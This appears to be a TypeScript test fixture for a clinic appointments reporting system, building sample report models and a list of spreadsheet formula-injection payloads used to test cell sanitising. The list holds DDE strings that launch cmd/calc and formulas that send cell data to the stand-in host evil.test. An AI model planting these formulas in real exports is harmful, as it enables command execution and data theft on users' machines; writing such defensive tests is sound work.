/** Reports in memory for the tests of files, and cells that a spreadsheet must not run. */
import { readFileSync } from 'node:fs'
import { createRequire } from 'node:module'
import type { ReportColumn, ReportModel, ReportRow, StreamedReport } from '#domain/report/report-model.ts'
import type { FontFile } from '#reports/pdf/fonts.ts'

const dejaVu = createRequire(import.meta.url).resolve('dejavu-fonts-ttf/ttf/DejaVuSans.ttf')
export const DEJAVU: FontFile = { name: 'DejaVuSans', read: () => readFileSync(dejaVu) }

export const streamed = (model: ReportModel): StreamedReport => ({ head: model, rows: model.rows, tail: () => model })

export const aModel = (
  columns: readonly ReportColumn[],
  rows: readonly ReportRow[],
  part: Partial<ReportModel> = {},
): ReportModel => ({
  definition: 'appointments',
  title: 'Appointments',
  clinicName: 'Lindenhof',
  filter: ['Days: 2026-10-01 to 2026-10-31'],
  asOf: { instant: 0, zone: 'Europe/Warsaw', text: 'As of 2026-10-14 10:00, Europe/Warsaw' },
  columns,
  rows,
  charts: [],
  totals: [],
  notes: [],
  ...part,
})

/** OWASP's and the usual variations: every first character, separators and quotes before it, functions that call out. */
export const FORMULAS: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '  +1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "@cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.test?x="&A1,"click")',
  '=HYPERLINK("javascript:alert(1)","click")',
  '=WEBSERVICE("http://evil.test/"&A1)',
  '=IMPORTXML("http://evil.test","//a")',
  '=IMPORTDATA("http://evil.test")',
  '=IMAGE("http://evil.test/a.png")',
  '=DDE("cmd","/C calc","!A0")',
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''",
  '=2+5+cmd|" /C calc"!A0',
  '=SUM(1+1)*cmd|" /C calc"!A0',
  '";=1+1',
  '",=1+1',
  '"\n=1+1',
  "'=1+1",
  '=A1&CHAR(10)&B1',
  '=-1',
  '--1',
  '-2+3+cmd|" /C calc"!D2',
  '@A1',
  '+44 20 7946 0000',
  '{=1+1}',
  '_x003D_1+1',
]
